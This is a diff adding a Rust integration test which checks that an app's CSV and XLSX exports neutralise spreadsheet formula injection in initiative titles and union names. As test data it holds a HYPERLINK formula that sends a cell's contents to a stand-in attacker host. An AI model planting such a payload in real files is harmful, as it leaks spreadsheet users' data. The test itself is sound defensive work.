@@ -106,6 +106,7 @@ async fn seed(app: &TestApp, w: &crate::helpers::World) -> Vec<i64> {
 crate::on_both_backends!(
     dashboard_exports_as_excel_and_csv,
     a_unions_initiatives_by_status_and_subtree,
+    formulas_never_reach_a_spreadsheet,
 );
 
 async fn dashboard_exports_as_excel_and_csv(backend: Backend) {
@@ -448,4 +449,161 @@ async fn a_unions_initiatives_by_status_and_subtree(backend: Backend) {
         .unwrap();
     assert_eq!(res.status(), 400);
     app.review_counters_agree().await;
+}
+
+/// What a spreadsheet would run as a formula when the cell starts with it (OWASP).
+fn looks_like_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// The text of a zip entry.
+fn unzip(bytes: &[u8], name: &str) -> String {
+    use std::io::Read;
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+    let mut out = String::new();
+    zip.by_name(name).unwrap().read_to_string(&mut out).unwrap();
+    out
+}
+
+/// Issue 22, item 5: a title, union names and a cluster that start like a formula come out
+/// of every CSV export (API and pages) behind a `'`, and XLSX exports keep them as strings.
+async fn formulas_never_reach_a_spreadsheet(backend: Backend) {
+    let Some(app) = TestApp::spawn(backend).await else {
+        return;
+    };
+    let w = app.world().await;
+    let program = w.program;
+    let admin = app.login(who::ADMIN).await;
+    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"Bấm")"#;
+    let names = [
+        (
+            w.cb,
+            json!({"name": "=LĐLĐ tỉnh Cao Bằng", "cluster": "@Cụm miền núi"}),
+        ),
+        (w.ls, json!({"cluster": "@Cụm miền núi"})),
+        (w.cb_vc, json!({"name": "+Công đoàn Viên chức"})),
+        (w.cb_hq, json!({"name": "-CĐCS Hải quan"})),
+    ];
+    for (id, body) in names {
+        let res = app
+            .patch(&format!("/api/v1/unions/{id}"), &admin, &body)
+            .await;
+        assert_eq!(res.status(), 200, "{}", json(res).await);
+    }
+    let member = app.login(who::MEMBER_A).await;
+    let mut draft = distinct_draft(&w, 0);
+    draft["title"] = json!(evil);
+    let out = submit(&app, &member, &draft).await;
+    assert_eq!(out["_status"], 200, "{out}");
+    approve(&app, out["_id"].as_i64().unwrap()).await;
+
+    let officer = app.login(who::OFFICER_A).await;
+    let browser = sign_in(&app, who::ADMIN).await;
+    let page = |path: String| {
+        let browser = browser.clone();
+        let url = format!("{}{path}", app.base);
+        async move { browser.get(url).send().await.unwrap() }
+    };
+    let csvs = [
+        (
+            "API initiatives",
+            app.get(
+                &format!(
+                    "/api/v1/unions/{}/initiatives/export?program_id={program}&format=csv",
+                    w.cb
+                ),
+                &officer,
+            )
+            .await,
+        ),
+        (
+            "API dashboard",
+            app.get(
+                &format!(
+                    "/api/v1/unions/{}/dashboard/export?program_id={program}&format=csv",
+                    w.root
+                ),
+                &admin,
+            )
+            .await,
+        ),
+        (
+            "page initiatives",
+            page(format!(
+                "/don-vi/{}/sang-kien.csv?program_id={program}",
+                w.cb
+            ))
+            .await,
+        ),
+        (
+            "page dashboard",
+            page(format!(
+                "/don-vi/{}/thanh-tich.csv?program_id={program}",
+                w.cb
+            ))
+            .await,
+        ),
+        (
+            "page leaderboard",
+            page(format!(
+                "/don-vi/{}/xep-hang.csv?program_id={program}",
+                w.root
+            ))
+            .await,
+        ),
+    ];
+    let mut seen = std::collections::BTreeSet::new();
+    for (what, res) in csvs {
+        let rows = csv_rows(&download(res, "text/csv; charset=utf-8", "csv").await);
+        for cell in rows.iter().flatten() {
+            assert!(!looks_like_formula(cell), "{what}: {cell:?} in {rows:?}");
+            if cell.starts_with('\'') {
+                seen.insert((what, cell.clone()));
+            }
+        }
+    }
+    let expect = [
+        ("API initiatives", format!("'{evil}")),
+        ("API initiatives", "'-CĐCS Hải quan".to_owned()),
+        ("page initiatives", format!("'{evil}")),
+        ("API dashboard", "'=LĐLĐ tỉnh Cao Bằng".to_owned()),
+        ("API dashboard", "'@Cụm miền núi".to_owned()),
+        ("page dashboard", "'+Công đoàn Viên chức".to_owned()),
+        ("page leaderboard", "'=LĐLĐ tỉnh Cao Bằng".to_owned()),
+    ];
+    for (what, cell) in expect {
+        assert!(
+            seen.contains(&(what, cell.clone())),
+            "{what}: {cell} in {seen:?}"
+        );
+    }
+
+    // XLSX keeps them as strings: shared strings (`t="s"`) or inline, never a formula.
+    let xlsxs = [
+        app.get(
+            &format!(
+                "/api/v1/unions/{}/initiatives/export?program_id={program}&format=xlsx",
+                w.cb
+            ),
+            &officer,
+        )
+        .await,
+        page(format!(
+            "/don-vi/{}/thanh-tich.xlsx?program_id={program}",
+            w.root
+        ))
+        .await,
+    ];
+    for res in xlsxs {
+        let bytes = download(res, XLSX, "xlsx").await;
+        let sheet = unzip(&bytes, "xl/worksheets/sheet1.xml");
+        assert!(!sheet.contains("<f"), "a formula: {sheet}");
+        let strings = unzip(&bytes, "xl/sharedStrings.xml");
+        assert!(
+            strings.contains("=HYPERLINK(") || strings.contains("=LĐLĐ tỉnh Cao Bằng"),
+            "{strings}"
+        );
+        // Shared strings are read only by string cells (`t="s"`): the text is data.
+        assert!(sheet.contains(r#"t="s""#), "{sheet}");
+    }
 }
